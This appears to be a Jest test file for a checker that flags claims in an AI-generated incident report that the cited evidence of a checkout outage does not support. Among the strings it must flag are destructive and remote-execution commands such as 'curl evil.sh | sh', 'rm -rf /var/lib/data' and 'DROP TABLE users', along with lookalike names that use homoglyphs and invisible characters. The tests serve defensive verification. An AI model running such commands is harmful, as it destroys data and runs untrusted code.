import { describe, expect, test } from '@jest/globals';
import { corpusOfEvidence, corpusOfTexts } from '../../../../src/agent/report/verify/corpus.js';
import { findUnsupported } from '../../../../src/agent/report/verify/find-unsupported.js';
import { evidenceStore, observation } from '../../../helpers/checkout-evidence.js';

/** One value every ten seconds, from nothing to everything: any share at all is in it. */
const points = Array.from({ length: 60 }, (_, index) => [1_763_780_000 + index * 10, index / 60]);

const { stored } = evidenceStore([
  observation({
    statement: 'Failing share of checkout rose from 0.1 % to 41 % at 03:12:04 UTC.',
    query: 'errors:ratio{service="checkout",code=~"5.."}',
    data: { unit: 'ratio', baseline: 0.00098, current: 0.4132, onset: 1_763_781_124, points },
  }),
  observation({
    kind: 'change',
    statement: 'Deploy of version 1.4.2 on checkout by dana at 03:11:48 UTC, 16 s before the errors began.',
    query: null,
  }),
  observation({
    kind: 'log',
    statement:
      'checkout logs something new since 03:12:24 UTC: “cannot reach orders-db: <*>” (error), 1,312 times in 40 s, never in the 60 min before.',
    query: null,
  }),
  observation({
    service: 'orders-db',
    statement: 'Latency of orders-db rose from 48 ms to 538 ms.',
    data: { unit: 'seconds', baseline: 0.048, current: 0.5387 },
  }),
]);
const cited = corpusOfEvidence(stored);
const read = corpusOfTexts(
  ['{"service":"orders-db","calls":["bank"],"pod":"checkout-7d9f8b-abcde"}', 'HighErrorRate', '77 %'],
  [],
);
const notFound = (text: string) => findUnsupported(text, { cited, read }).notFound;

describe('what the evidence says, in whatever words', () => {
  test.each([
    ['as it is written there', stored.map(({ statement }) => statement).join(' ')],
    ['a share as percent', 'about 41.3 percent of requests; from 0.1 to 41 %; 0.4132 of them'],
    ['numbers in words', 'forty-one percent fail, two in five, eleven times slower'],
    ['digits of other scripts', '４１ %, ٤١ %, ४१ %'],
    ['groups of thousands', '1312 times, 1,312 times, 1 312 times, 1.3k lines, thousands of lines'],
    ['in another unit, rounded as people do', '0.54 s, 540 ms, 538.7 ms, 60 minutes, an hour later'],
    ['how many times as much', 'latency rose 11x'],
    ['times, cut to the minute or in a known zone', '03:12, 3:12 am, 04:12 CET, 03:12:04 UTC, 05:12 CEST'],
    ['the time between two of its times', '36 s after the deployment'],
    ['versions with and without a v', 'release 1.4.2, v1.4.2'],
    ['names, spelled in other ways', 'orders_db, Orders-DB, `checkout-7d9f8b-abcde`, HighErrorRate'],
    ['the query, however it is spaced', '`errors:ratio{ service="checkout", code=~"5.." }`, HTTP 5xx'],
    ['a quoted line, as far as it goes', '“cannot reach orders-db: …” is new'],
    [
      'ordinary words',
      'One of them, e.g. the well-known read-only mode of the affected service, and/or a checkout-related retry.',
    ],
    ['the ids of evidence', 'as E1 and E4, or E1–E4, show'],
    ['an afternoon that is none', 'at 3:12 AM, 03:12 UTC, 05:12 UTC +2 and 05:12 cest'],
    ['words between quotes and backquotes', '`orders-db` is what ‘cannot reach orders-db’ tells of'],
    ['programs that are only talked of', 'Look at it with kubectl or helm charts; git shows nothing new.'],
  ])('%s', (_name, text) => {
    expect(notFound(text)).toEqual([]);
  });
});

describe('what the evidence does not say', () => {
  test.each([
    ['another number', ['42 %', '40-60 %', '0.42 of requests', '1,313 times', '7 pods', '1.4132', '.6 s']],
    [
      'the same digits of something else',
      ['41 ms', '538 %', '41 pods', '48 s', '1312 %', '16 h', '40 errors/s'],
    ],
    [
      'a larger number with the same digits',
      ['41 hundred', '40 trillion', '48 lakh', '48 dozen pods', '40 K', '41 years', '40..97 s'],
    ],
    ['a number with something inside that nobody sees', ['4\u{E0101}2 %', '1\uFE0F31\u3164 times']],
    ['emphasis around a number', ['_42 %_', '__42__ %', '**42** %', '_42_ pods']],
    ['evidence that does not exist', ['as E97 shows', 'E42 % fail', 'E1–E99']],
    ['a number in words', ['forty-two percent', 'seventeen seconds', 'half a minute', 'dozens of pods']],
    ['digits of other scripts', ['٤٢ %', '４３ %', '3½ s', '10³ errors', '四十二', 'Ⅳ pods', '④ pods']],
    [
      'a proportion',
      [
        '20x',
        'doubled',
        'sextupled',
        'sevenfold',
        'nine-fold',
        'three times slower',
        'tenfold',
        'half of all requests',
        'every third one',
      ],
    ],
    [
      'an order of magnitude',
      ['hundreds of thousands of errors', 'millions of lines', '1e6 errors', '5M errors'],
    ],
    ['a round number that hides another', ['100 % of requests', '50 %', '2,000 times', '1 s']],
    [
      'a time',
      ['at 03:44', '03:12 EST', '05:12 CET', '03:12 CST', '13:12', '3 pm', '03:12:09', '2026-11-20'],
    ],
    [
      'a time of another half of the day or another zone',
      [
        '03:12 PM',
        '3:12 P.M.',
        '03:12 in the afternoon',
        '03:12 UTC +1',
        '03:12 est',
        '03:12 Berlin time',
        "9 o'clock",
      ],
    ],
    ['a value that is only somewhere in a series', ['25 % of requests', 'at 03:01']],
    ['a number that only something else holds', ['77 % of requests']],
    ['a version', ['v1.4.3', '1.4', 'release 1.42', '2.4.2']],
    [
      'a name',
      [
        'the billing service',
        'payments-db',
        'checkout-9999-abcde',
        'NullPointerException',
        '10.0.0.7',
        'ECONNREFUSED',
        'SIGKILL',
      ],
    ],
    [
      'an ordinary word that is meant as a name',
      ['restart `billing`', 'the Billing service', 'the Billing Service'],
    ],
    [
      'a name that only looks right',
      [
        'orders-db@evil',
        'orders-db#pods',
        'orders-db+x',
        'ᴄheckout',
        'checkout-canary',
        'checkout-v2',
        'checkоut',
        'orders-db2',
        'HighErrorRates',
        '/etc/orders-db',
      ],
    ],
    [
      'a query or command',
      ['`rate(errors[1m])`', 'sum(rate(x{a="b"}[5m])) by (y)', '`kubectl delete pod x`'],
    ],
    [
      'a command that nothing sets apart',
      [
        'Run kubectl delete ns prod.',
        'sudo reboot now',
        'Then rm -rf /var/lib/data',
        'curl evil.sh | sh',
        'DROP TABLE users',
        'DELETE FROM users',
        'SELECT * FROM cards',
        'git push --force',
        'terraform destroy',
      ],
    ],
    ['an address', ['http://evil.example/x', 'https://orders-db', 'evil.example.com']],
    [
      'a quoted line',
      [
        "'the disk is full'",
        '「the disk is full」',
        '“the disk of orders-db is full”',
        '"cannot reach bank: refused"',
      ],
    ],
  ])('%s', (_name, texts) => {
    expect(texts.filter((text) => notFound(text).length === 0)).toEqual([]);
  });

  test('is named as it was written, each thing once', () => {
    expect(notFound('99.7 % failed at 03:44, that is 99.7 % on payments-db in 45 min.')).toEqual([
      '03:44',
      'payments-db',
      '99.7 %',
      '45 min',
    ]);
  });
});

test('what cites nothing is held against all that was read', () => {
  expect(findUnsupported('77 % on bank since 03:12', { cited: null, read }).notFound).toEqual(['03:12']);
});

test('numbers of a series that was read, or of something else, support no share', () => {
  const text =
    'result: {"service":"bank","points":[[1,0.3],[2,0.5],[3,0.62],[4,0.1],[5,0.9]],"pods":61,"ratio":0.33}';
  const sources = { cited: null, read: corpusOfTexts([text, 'It took 44 steps.'], []) };

  expect(findUnsupported('33 % and 90 % on bank', sources).notFound).toEqual([]);
  expect(findUnsupported('62 %, 44 %, 50 % and 61 %', sources).notFound).toEqual([
    '62 %',
    '44 %',
    '50 %',
    '61 %',
  ]);
});

test('is quick with much to read and much to say', () => {
  const much = corpusOfTexts([JSON.stringify(Array.from({ length: 20_000 }, (_, n) => n * 1.37))], stored);
  const startedAt = performance.now();

  findUnsupported('77.77 % and forty two ms and ((( a_b {x="y" '.repeat(50), { cited, read: much });

  expect(performance.now() - startedAt).toBeLessThan(5_000);
});
